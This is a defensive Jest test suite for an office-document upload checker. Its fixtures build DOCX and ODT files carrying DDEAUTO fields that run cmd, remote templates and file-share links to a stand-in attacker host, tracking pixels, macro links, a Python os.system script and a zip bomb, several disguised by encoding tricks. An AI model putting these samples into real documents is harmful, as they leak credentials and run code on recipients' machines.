/**
 * DOCX and ODT read for active content: embedded objects, content loaded
 * from elsewhere (remote templates and every other external relationship but a web link),
 * DDE and include fields, ODF objects, event listeners and external links, through the tricks
 * that hide them from a naive reading (prefixes, entities, UTF-16, split runs, case).
 */
import { describe, expect, it } from '@jest/globals';
import { deflateRawSync } from 'node:zlib';
import { checkOfficeDocument } from '../../../server/services/assets/officeCheck';
import { sniffKind } from '../../../server/services/assets/sniff';
import {
  cleanDocx,
  cleanOdt,
  docx,
  docxWith,
  docxWithDdeField,
  docxWithOleObject,
  docxWithRemoteTemplate,
  field,
  odt,
  odtWith,
  odtWithEventListener,
  odtWithObject,
  oleBytes,
  paragraph,
  run,
} from './fileMakers';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

const HOSTILE_DOCX: [string, () => Buffer][] = [
  ['an embedded OLE object (the probe’s file)', docxWithOleObject],
  [
    'an embedded object’s part alone, its name in capitals',
    () => docxWith({ extra: { 'WORD/EMBEDDINGS/Package.bin': oleBytes() } }),
  ],
  [
    'an embedded object’s part under a backslash path',
    () => docxWith({ extra: { 'word\\embeddings\\oleObject1.bin': oleBytes() } }),
  ],
  [
    'an embedded object’s part, percent-encoded',
    () => docxWith({ extra: { 'word/%65mbeddings/oleObject1.bin': oleBytes() } }),
  ],
  [
    'a linked OLE object (w:object, no part)',
    () =>
      docxWith({
        body: paragraph(
          '<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId30" UpdateMode="Always"/></w:object></w:r>',
        ),
      }),
  ],
  [
    'an ActiveX control',
    () =>
      docxWith({
        body: paragraph(
          '<w:r><w:object><w:control r:id="rId31" w:name="CommandButton1"/></w:object></w:r>',
        ),
        rels: [{ id: 'rId31', type: 'control', target: 'activeX/activeX1.xml' }],
        extra: {
          'word/activeX/activeX1.xml':
            '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        },
      }),
  ],
  ['a remote template (the probe’s file)', () => docxWithRemoteTemplate()],
  [
    'a template on a file share (credentials leak)',
    () => docxWithRemoteTemplate('file://attacker.example/share/cv.dotm'),
  ],
  [
    'a picture beside the document, its TargetMode written with a character reference',
    () =>
      docxWith({
        body: paragraph(
          '<w:r><w:pict><v:shape><v:imagedata r:id="rId38"/></v:shape></w:pict></w:r>',
        ),
        rels: [{ id: 'rId38', type: 'image', target: 'pixel.png', external: true }],
        rewrite: (name, text) =>
          name.endsWith('.rels') ? text.replace('"External"', '"Ex&#116;ernal"') : text,
      }),
  ],
  [
    'a remote template in relationships written in UTF-16',
    () =>
      docxWith({
        settings: '<w:attachedTemplate r:id="rId1"/>',
        settingsRels: [
          {
            id: 'rId1',
            type: 'attachedTemplate',
            target: 'https://attacker.example/t.dotm',
            external: true,
          },
        ],
        rewrite: (name, text) =>
          name.endsWith('.rels')
            ? Buffer.concat([
                Buffer.from([0xff, 0xfe]),
                Buffer.from(text.replace('UTF-8', 'UTF-16'), 'utf16le'),
              ])
            : text,
      }),
  ],
  [
    'a picture linked from a web address (loaded on opening)',
    () =>
      docxWith({
        body: paragraph(
          '<w:r><w:pict><v:shape><v:imagedata r:id="rId32"/></v:shape></w:pict></w:r>',
        ),
        rels: [
          {
            id: 'rId32',
            type: 'image',
            target: 'https://attacker.example/pixel.png',
            external: true,
          },
        ],
      }),
  ],
  [
    'a web hyperlink’s relationship used as a picture',
    () =>
      docxWith({
        body: paragraph(
          '<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId33"/></w:drawing></w:r>',
        ),
        rels: [
          {
            id: 'rId33',
            type: 'hyperlink',
            target: 'https://attacker.example/pixel.png',
            external: true,
          },
        ],
      }),
  ],
  [
    'a frame loading a remote page',
    () =>
      docxWith({
        rels: [
          {
            id: 'rId34',
            type: 'frame',
            target: 'https://attacker.example/frame.html',
            external: true,
          },
        ],
      }),
  ],
  [
    'an external sub-document',
    () =>
      docxWith({
        body: paragraph('<w:subDoc r:id="rId35"/>'),
        rels: [
          {
            id: 'rId35',
            type: 'subDocument',
            target: '\\\\attacker.example\\share\\part.docx',
            external: true,
          },
        ],
      }),
  ],
  [
    'an imported chunk (altChunk)',
    () =>
      docxWith({
        body: '<w:altChunk r:id="rId36"/>',
        rels: [{ id: 'rId36', type: 'aFChunk', target: 'afchunk.rtf' }],
        extra: { 'word/afchunk.rtf': '{\\rtf1 {\\object\\objemb}}' },
      }),
  ],
  [
    'a hyperlink to a file share',
    () =>
      docxWith({
        body: `<w:p><w:hyperlink r:id="rId37">${run('cv')}</w:hyperlink></w:p>`,
        rels: [
          {
            id: 'rId37',
            type: 'hyperlink',
            target: 'file:///\\\\attacker.example\\share\\cv.exe',
            external: true,
          },
        ],
      }),
  ],
  [
    'a mail merge that queries a data source',
    () =>
      docxWith({
        settings:
          '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val="Provider=MSDASQL"/></w:mailMerge>',
      }),
  ],
  ['a DDEAUTO field split across runs', docxWithDdeField],
  [
    'a DDE field in a simple field',
    () =>
      docxWith({
        body: `<w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc&quot; x">${run('1')}</w:fldSimple></w:p>`,
      }),
  ],
  [
    'a ddeauto field in lower case',
    () => docxWith({ body: paragraph(field([' ddeauto cmd "/c calc" '])) }),
  ],
  [
    'a DDEAUTO field with a comment and CDATA in its code',
    () =>
      docxWith({
        body: paragraph(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>D<!-- nothing here -->D<![CDATA[EAU]]>TO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        ),
      }),
  ],
  [
    'a DDEAUTO field under another prefix',
    () =>
      docxWith({
        body: `<w:p><x:r xmlns:x="${W}"><x:fldChar x:fldCharType="begin"/></x:r><x:r xmlns:x="${W}"><x:instrText>DDEAUTO cmd "/c calc"</x:instrText></x:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      }),
  ],
  [
    'a DDE field whose tag holds a quoted “>” first',
    () =>
      docxWith({
        body: `<w:p><w:fldSimple w:dirty=">" w:instr="DDEAUTO cmd x">${run('1')}</w:fldSimple></w:p>`,
      }),
  ],
  [
    'a DDE field in a document written in UTF-16, big-endian, with no byte-order mark',
    () =>
      docxWith({
        body: paragraph(field([' DDEAUTO cmd "/c calc" '])),
        rewrite: (name, text) =>
          name === 'word/document.xml'
            ? Buffer.from(text.replace('UTF-8', 'UTF-16'), 'utf16le').swap16()
            : text,
      }),
  ],
  [
    'a DDE field written with character references',
    () => docxWith({ body: paragraph(field(['&#68;&#x44;EAUTO cmd "/c calc"'])) }),
  ],
  [
    'a field whose type is computed by a nested field',
    () =>
      docxWith({
        body: paragraph(
          '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
            field([' QUOTE 68 68 69 65 85 84 79 ']) +
            '<w:r><w:instrText> cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
        ),
      }),
  ],
  [
    'an INCLUDEPICTURE field (a tracking picture)',
    () =>
      docxWith({
        body: paragraph(field([' INCLUDEPICTURE "https://attacker.example/p.png" \\d '])),
      }),
  ],
  [
    'an INCLUDETEXT field from a file share',
    () =>
      docxWith({
        body: paragraph(field([' INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\x.docx" '])),
      }),
  ],
  [
    'a LINK field (a linked OLE object)',
    () => docxWith({ body: paragraph(field([' LINK Excel.Sheet.12 "C:\\\\x.xlsx" "" \\a '])) }),
  ],
  [
    'a part too large to read (a zip bomb)',
    () => docxWith({ body: paragraph(run(' '.repeat(17 * 1024 * 1024))) }),
  ],
];

/** A part compressed with a method this check cannot read (bzip2, 12). */
const withUnreadableEntry = () =>
  docxWith({
    raw: [
      { name: 'word/footer1.xml', content: deflateRawSync(Buffer.from('<w:ftr/>')), method: 12 },
    ],
  });

const HOSTILE_ODT: [string, () => Buffer][] = [
  ['an embedded object (draw:object and its folder)', odtWithObject],
  [
    'an OLE object',
    () =>
      odtWith({
        text: '<text:p><draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame></text:p>',
        extra: { 'Object 2': oleBytes() },
      }),
  ],
  ['an object folder alone', () => odtWith({ extra: { 'Object 1/content.xml': '<x/>' } })],
  ['a macro run when it opens (event listener)', odtWithEventListener],
  [
    'a script of its own',
    () =>
      odtWith({
        before: '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
      }),
  ],
  [
    'a remote template',
    () =>
      odtWith({
        meta: '<meta:template xlink:type="simple" xlink:href="https://attacker.example/cv.ott" xlink:title="cv"/>',
      }),
  ],
  [
    'a template beside the document (../)',
    () => odtWith({ meta: '<meta:template xlink:href="../../Modèles/cv.ott" xlink:title="cv"/>' }),
  ],
  [
    'an automatic reload from elsewhere',
    () =>
      odtWith({
        meta: '<meta:auto-reload xlink:href="https://attacker.example/" meta:delay="PT1S"/>',
      }),
  ],
  [
    'a picture linked from the web',
    () =>
      odtWith({
        text: '<text:p><draw:frame><draw:image xlink:href="https://attacker.example/pixel.png"/></draw:frame></text:p>',
      }),
  ],
  [
    'a picture linked from a file share',
    () =>
      odtWith({
        text: '<text:p><draw:frame><draw:image xlink:href="file://attacker.example/share/p.png"/></draw:frame></text:p>',
      }),
  ],
  [
    'a link that runs a macro',
    () =>
      odtWith({
        text: '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document">CV</text:a></text:p>',
      }),
  ],
  [
    'a macro: link',
    () =>
      odtWith({
        text: '<text:p><text:a xlink:href="macro:///Tools.Misc.Run">CV</text:a></text:p>',
      }),
  ],
  [
    'a DDE connection',
    () =>
      odtWith({
        text: '<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>',
      }),
  ],
  [
    'a macro field',
    () =>
      odtWith({
        text: '<text:p><text:execute-macro text:name="Main">go</text:execute-macro></text:p>',
      }),
  ],
  [
    'a linked section',
    () =>
      odtWith({
        text: '<text:section text:name="s"><text:section-source xlink:href="https://attacker.example/s.odt"/></text:section>',
      }),
  ],
  [
    'a floating frame',
    () =>
      odtWith({
        text: '<text:p><draw:frame><draw:floating-frame xlink:href="https://attacker.example/"/></draw:frame></text:p>',
      }),
  ],
  [
    'an applet',
    () =>
      odtWith({
        text: '<text:p><draw:frame><draw:applet draw:code="Evil.class"/></draw:frame></text:p>',
      }),
  ],
  [
    'a plug-in',
    () =>
      odtWith({
        text: '<text:p><draw:frame><draw:plugin xlink:href="https://attacker.example/x.swf"/></draw:frame></text:p>',
      }),
  ],
];

describe('office documents: what is refused as active content', () => {
  it.each(HOSTILE_DOCX)('refuses a DOCX with %s', (_label, make) => {
    const file = make();
    expect(sniffKind(file)).toEqual({ kind: 'docx' });
    expect(checkOfficeDocument(file)).toBe('active');
  });

  it.each(HOSTILE_ODT)('refuses an ODT with %s', (_label, make) => {
    const file = make();
    expect(sniffKind(file)).toEqual({ kind: 'odt' });
    expect(checkOfficeDocument(file)).toBe('active');
  });

  it('refuses an entry it cannot decompress', () => {
    expect(checkOfficeDocument(withUnreadableEntry())).toBe('active');
  });

  it('takes ODF scripts in other languages for macros (refused by the sniffing)', () => {
    const file = odtWith({ extra: { 'Scripts/python/cv.py': 'import os\nos.system("calc")\n' } });
    expect(sniffKind(file)).toEqual({ refusal: 'macro' });
  });
});

describe('office documents: what stays accepted', () => {
  it.each([
    ['a minimal DOCX', docx],
    ['a minimal ODT', odt],
    ['a CV with web and mail links, a picture, fields, custom XML (Word)', cleanDocx],
    ['a CV with web and mail links, a picture, a link to a heading (LibreOffice)', cleanOdt],
  ])('accepts %s', (_label, make) => {
    expect(checkOfficeDocument(make())).toBe('ok');
  });
});
